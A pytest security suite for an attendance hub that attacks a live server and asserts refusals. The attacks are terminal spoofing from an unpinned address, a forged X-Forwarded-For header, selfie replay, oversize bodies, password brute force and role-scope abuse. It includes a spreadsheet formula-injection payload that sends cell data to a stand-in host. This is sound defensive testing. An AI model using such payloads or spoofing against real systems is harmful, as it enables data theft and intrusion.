"""The attack suite (issue 21 item 8): the hub as `hub run` serves it (console, /iclock, health)
under uvicorn, attacked over real sockets the way an outsider would, on SQLite and
PostgreSQL. Every attack asserts its refusal and that nothing stored changed: every table
is compared before and after, except the few a refusal is meant to touch (the refusal
counter, the audit log, a sign-in throttle), named per attack.

Spoofing comes from 127.0.0.2, another loopback address the terminal is not pinned to.
Covered elsewhere in depth: MQTT topic spoofing on a broker with the generated ACL
(test_push_cli), each terminal-trust path (test_adms_trust), liveness (test_mobile_identity).
"""

from __future__ import annotations

import base64
import csv
import io
import threading
import time
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime

import httpx
import pytest
import uvicorn
from sqlalchemy import Engine, delete, select, update
from sqlalchemy.orm import Session

from hub.adapters.adms import trust
from hub.face import index, mobile_auth
from hub.face.enroll import enroll_analysis
from hub.face.settings import FaceSettings, set_face_settings
from hub.fleet.registry import DeviceSpec, add_device
from hub.push import service
from hub.service.runner import HubState, build_app
from hub.store.db import make_engine, reset_engines, session_scope
from hub.store.models import Employee, Site, Template
from tests.face_fixtures import analysed, bgr, jpeg, make_employee
from tests.store_helpers import table_snapshot
from tests.web_fixtures import PASSWORD, USERS, WebEnv, _store, build_env, csrf_of, free_port

FORGER = "127.0.0.2"
ADMS_SN = "ATK-ADMS"
EVIL = '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")'
NIP = "196108041990031001"
OBAMA2, OBAMA = jpeg(bgr("obama2.jpg")), jpeg(bgr("obama.jpg"))


@dataclass
class Hub:
    env: WebEnv
    engine: Engine
    url: str
    cmd_id: int
    mobile_token: str

    def client(self, addr: str = "127.0.0.1", **kw: object) -> httpx.Client:
        return httpx.Client(base_url=self.url, timeout=60, transport=httpx.HTTPTransport(local_address=addr),
                            **kw)  # type: ignore[arg-type]

    def bearer(self, role: str) -> dict[str, str]:
        return {"Authorization": f"Bearer {self.env.token(role)}"}


def _prepare(engine: Engine) -> tuple[int, str]:
    """An ADMS terminal pinned to 127.0.0.1 with a face photo queued for it; an employee with
    an enrolled face at a located office, named like a formula, with a signed-in phone."""
    with session_scope(engine) as s:
        # the console seed's face template is a placeholder, not an encoding: out of the 1:N index
        s.execute(delete(Template).where(Template.kind == "face"))
        dev = add_device(s, DeviceSpec(serial=ADMS_SN, kind="adms", tz="Asia/Jakarta"))
        trust.pin_sources(s, dev.id, "127.0.0.1", "it1", "test")
        cmd = service.enqueue(s, dev, "face.set", {"user_id": "1001", "photo": {"b64": base64.b64encode(
            OBAMA).decode()}}, "admin1")
        site = Site(code="OPD-GEO", name="Kantor Bupati", tz="Asia/Jakarta", latitude=-6.9175,
                    longitude=107.6191, geofence_m=150)
        s.add(site)
        s.flush()
        make_employee(s, NIP, "Barack Obama", site)
        enroll_analysis(s, NIP, analysed("obama.jpg"), "test")
        s.execute(update(Employee).where(Employee.id_number != NIP).values(name=EVIL))
        code = mobile_auth.issue(s, NIP, "it1")
        cmd_id = cmd.id
    return cmd_id, code


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def hub(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hub]:
    tmp = tmp_path_factory.mktemp("attack")
    url, cleanup = _store(request, request.param, tmp)
    env = build_env(url, tmp / "var")
    set_face_settings(FaceSettings(liveness_kinds="turn_right"))
    index.invalidate()
    engine = make_engine(url)
    cmd_id, code = _prepare(engine)
    app = build_app(env.settings, HubState())
    port = free_port()
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning",
                                           lifespan="on", proxy_headers=False))  # as `hub run`
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 20
    while not server.started:
        assert time.monotonic() < deadline and thread.is_alive(), "uvicorn did not start"
        time.sleep(0.05)
    base = f"http://127.0.0.1:{port}"
    r = httpx.post(f"{base}/api/mobile/login", data={"nip": NIP, "code": code,
                                                     "device_key": "phone-of-obama-0123456789"}, timeout=30)
    assert r.status_code == 200, r.text
    yield Hub(env, engine, base, cmd_id, r.json()["token"])
    server.should_exit = True
    thread.join(10)
    engine.dispose()
    set_face_settings(None)
    reset_engines()
    cleanup()  # type: ignore[operator]


class Unchanged:
    """`with Unchanged(hub, "audit_log"):` fails if any other table changed inside."""

    def __init__(self, hub: Hub, *may_change: str) -> None:
        self.engine, self.may = hub.engine, frozenset(may_change)

    def __enter__(self) -> Unchanged:
        self.before = table_snapshot(self.engine, self.may)
        return self

    def __exit__(self, exc_type: object, *_: object) -> None:
        if exc_type is None:
            after = table_snapshot(self.engine, self.may)
            changed = [t for t in self.before if self.before[t] != after[t]]
            assert not changed, f"tables changed by a refused attack: {changed}"


REFUSAL_NOTES = ("edge_refusals", "push_trust")  # the counter, and the new address IT will see


def _attlog(pin: str, when: str) -> bytes:
    return f"{pin}\t{when}\t0\t15\t0\t0\t0\n".encode()


# --- spoofing a terminal ------------------------------------------------------------------


def test_spoof_forged_punches_from_an_unpinned_address(hub: Hub) -> None:
    with Unchanged(hub, *REFUSAL_NOTES), hub.client(FORGER) as c:
        r = c.post("/iclock/cdata", params={"SN": ADMS_SN, "table": "ATTLOG", "Stamp": "5"},
                   content=_attlog("1001", "2026-10-05 07:00:00"))
        assert r.status_code == 403


def test_spoof_cursor_poisoning(hub: Hub) -> None:
    with Unchanged(hub, *REFUSAL_NOTES):
        with hub.client(FORGER) as c:
            r = c.post("/iclock/cdata", params={"SN": ADMS_SN, "table": "ATTLOG", "Stamp": "4294967295"},
                       content=b"")
            assert r.status_code == 403
        with hub.client() as c:  # even from the terminal's own address, a stamp no unit can count
            r = c.post("/iclock/cdata", params={"SN": ADMS_SN, "table": "ATTLOG", "Stamp": "9" * 20}, content=b"")
            assert r.status_code == 400


def test_spoof_command_download_and_forged_confirmation(hub: Hub) -> None:
    with Unchanged(hub, *REFUSAL_NOTES), hub.client(FORGER) as c:
        r = c.get("/iclock/getrequest", params={"SN": ADMS_SN})
        assert r.status_code == 403 and "BIOPHOTO" not in r.text and "Content" not in r.text
        r = c.post("/iclock/devicecmd", params={"SN": ADMS_SN}, content=f"ID={hub.cmd_id}&Return=0&CMD=DATA\n")
        assert r.status_code == 403
        r = c.post("/iclock/registry", params={"SN": ADMS_SN}, content=b"DeviceType=att")
        assert r.status_code == 403 and "RegistryCode" not in r.text


def test_spoof_through_a_forged_forwarded_header(hub: Hub) -> None:
    # no trusted proxy is configured: X-Forwarded-For naming the pinned address is ignored
    with Unchanged(hub, *REFUSAL_NOTES), hub.client(FORGER) as c:
        r = c.post("/iclock/cdata", params={"SN": ADMS_SN, "table": "ATTLOG", "Stamp": "6"},
                   content=_attlog("1001", "2026-10-05 07:00:00"), headers={"X-Forwarded-For": "127.0.0.1"})
        assert r.status_code == 403


# --- replay -------------------------------------------------------------------------------


def _mobile(hub: Hub, selfie: bytes, captured: datetime) -> httpx.Response:
    auth = {"Authorization": f"Bearer {hub.mobile_token}"}
    with hub.client() as c:
        ch = c.get("/api/mobile/challenge", headers=auth).json()["challenge_id"]
        files = [("selfie", ("s.jpg", selfie, "image/jpeg"))] + [
            ("frames", (f"f{i}.jpg", f, "image/jpeg")) for i, f in enumerate([OBAMA2, OBAMA, OBAMA])]
        return c.post("/api/mobile/punch", headers=auth, files=files, data={
            "challenge_id": ch, "latitude": "-6.9178", "longitude": "107.6194", "accuracy_m": "10",
            "captured_at": captured.isoformat(), "capture_source": "camera", "mock_location": "false",
            "state": "check_in"})


def test_replay_of_a_mobile_selfie(hub: Hub) -> None:
    t0 = datetime.now(UTC)
    first = _mobile(hub, OBAMA2, t0)
    assert first.status_code == 201, first.text
    with Unchanged(hub, "mobile_challenges", "mobile_sessions"):  # (a challenge asked, last use noted)
        r = _mobile(hub, OBAMA2 + b"\x00one more byte", datetime.now(UTC))
        assert r.status_code == 409 and r.json()["error"]["code"] == "replayed_photo"


def test_replay_with_a_staff_token(hub: Hub) -> None:
    with Unchanged(hub, "api_tokens"), hub.client() as c:
        r = c.post("/api/mobile/punch", headers=hub.bearer("admin"), files={"selfie": ("s.jpg", OBAMA, "image/jpeg")},
                   data={"nip": NIP})
        assert r.status_code == 401


# --- oversize and bad lines -----------------------------------------------------------------


def test_oversize_adms_body(hub: Hub) -> None:
    with Unchanged(hub), hub.client() as c:
        r = c.post("/iclock/cdata", params={"SN": ADMS_SN, "table": "ATTLOG", "Stamp": "7"},
                   content=b"1001\t2026-10-05 07:00:00\t0\t15\t0\t0\t0\n" * 1_700_000)  # ~67 MB
        assert r.status_code == 413


def test_oversize_anonymous_console_body(hub: Hub) -> None:
    with Unchanged(hub), hub.client() as c:
        r = c.post("/api/corrections", content=b"{" + b" " * 50_000_000 + b"}",
                   headers={"Content-Type": "application/json"})
        assert r.status_code == 413


def test_bad_lines_are_kept_not_acknowledged_and_lost(hub: Hub) -> None:
    from hub.push.models import RejectedLine
    from hub.store.models import RawPunch

    with hub.engine.connect() as conn:
        before = (len(conn.execute(select(RawPunch.id)).all()), len(conn.execute(select(RejectedLine.id)).all()))
    with Unchanged(hub, "raw_punches", "rejected_lines", "ingest_runs", "push_stamps", "devices"), \
            hub.client() as c:
        body = _attlog("1001", "2026-10-05 07:00:00") + b"1002\t2026-02-30 07:03:00\t0\t1\t0\t0\t0\n"
        r = c.post("/iclock/cdata", params={"SN": ADMS_SN, "table": "ATTLOG", "Stamp": "8"}, content=body)
        assert r.text == "OK: 1"
    with hub.engine.connect() as conn:
        after = (len(conn.execute(select(RawPunch.id)).all()), len(conn.execute(select(RejectedLine.id)).all()))
    assert after == (before[0] + 1, before[1] + 1)


# --- brute force, formulas, dates, scope ------------------------------------------------------


def test_brute_force_on_a_password(hub: Hub) -> None:
    # from an address of its own: the address throttle must not lock the other attacks out
    with Unchanged(hub, "audit_log", "login_throttle", "users"), hub.client("127.0.0.3", follow_redirects=False) as c:
        user = USERS["auditor"]
        for n in range(50):
            page = c.get("/login")
            r = c.post("/login", data={"username": user, "password": f"salah-{n}",
                                       "csrf_token": csrf_of(page.text), "next": ""})
            assert r.status_code == 303 and "/login?error=" in r.headers["location"]
        page = c.get("/login")
        r = c.post("/login", data={"username": user, "password": PASSWORD, "csrf_token": csrf_of(page.text),
                                   "next": ""})
        assert r.headers["location"].startswith("/login?error=locked")
    with Session(hub.engine) as s:
        from hub.web.models import User

        assert s.scalar(select(User.locked_until).where(User.username == user)) is not None


def test_formula_cells_in_exports(hub: Hub) -> None:
    with Unchanged(hub, "audit_log", "login_throttle", "users", "web_sessions"), \
            hub.client(follow_redirects=True) as c:
        page = c.get("/login")
        c.post("/login", data={"username": USERS["reviewer"], "password": PASSWORD,
                               "csrf_token": csrf_of(page.text), "next": ""})
        r = c.get("/recap/export.csv", params={"site": "OPD1", "month": "2026-10"})
        assert r.status_code == 200, r.text[:200]
        cells = [cell for row in csv.reader(io.StringIO(r.content.decode("utf-8-sig"))) for cell in row]
        assert "'" + EVIL in cells and EVIL not in cells
        r = c.get("/recap/export.xlsx", params={"site": "OPD1", "month": "2026-10"})
        with zipfile.ZipFile(io.BytesIO(r.content)) as z:
            sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any("<f>" in x or "<f " in x for x in sheets)


@pytest.mark.parametrize("path", ["/api/punches?date_from=9999-12-31", "/api/recap?site=OPD1&month=0001-01",
                                  "/api/exceptions?site=OPD1&day=0001-01-01"])
def test_date_edges(hub: Hub, path: str) -> None:
    with Unchanged(hub, "api_tokens"), hub.client() as c:
        assert c.get(path, headers=hub.bearer("reviewer")).status_code == 422


@pytest.mark.parametrize(("role", "method", "path", "body"), [
    ("reviewer", "POST", "/api/devices", {"serial": "EVIL-1", "kind": "zk-tcp", "host": "127.0.0.9"}),
    ("auditor", "POST", "/api/corrections", {"employee_id": 1, "day": "2026-10-05", "kind": "set_status",
                                             "status": "H", "reason": "x"}),
    ("it", "POST", "/api/recap/lock", {"site": "OPD1", "month": "2026-10"}),
    ("admin", "POST", "/api/mobile/punch", None),
])
def test_scope_a_role_outside_its_work(hub: Hub, role: str, method: str, path: str, body: dict | None) -> None:
    with Unchanged(hub, "api_tokens"), hub.client() as c:
        r = c.request(method, path, json=body, headers=hub.bearer(role)) if body is not None else \
            c.request(method, path, headers=hub.bearer(role), files={"selfie": ("s.jpg", OBAMA, "image/jpeg")})
        assert r.status_code in (401, 403), (r.status_code, r.text[:200])


def test_metrics_count_the_refusals(hub: Hub) -> None:
    def refused() -> float:
        with hub.client() as c:
            for line in c.get("/metrics").text.splitlines():
                if line.startswith(f'hub_edge_refused_total{{channel="adms",reason="source",serial="{ADMS_SN}"}}'):
                    return float(line.rsplit(" ", 1)[1])
        return 0.0

    before = refused()
    with hub.client(FORGER) as c:
        assert c.get("/iclock/getrequest", params={"SN": ADMS_SN}).status_code == 403
    assert refused() == before + 1



def test_it_sees_the_refused_address_on_the_terminal_page(hub: Hub) -> None:
    with hub.client(FORGER) as c:
        assert c.get("/iclock/getrequest", params={"SN": ADMS_SN}).status_code == 403
    with hub.client(follow_redirects=True) as c:
        page = c.get("/login")
        c.post("/login", data={"username": USERS["it"], "password": PASSWORD, "csrf_token": csrf_of(page.text),
                               "next": ""})
        html = c.get(f"/devices/{ADMS_SN}").text
    trust_part = html.split('id="trust"')[1].split("</dl>")[0]
    assert "127.0.0.1" in trust_part and FORGER in trust_part and f"hub push trust {ADMS_SN} --approve-source" in html
    refusals = html.split('id="refusals"')[1].split("</table>")[0]
    assert "source" in refusals and FORGER in refusals
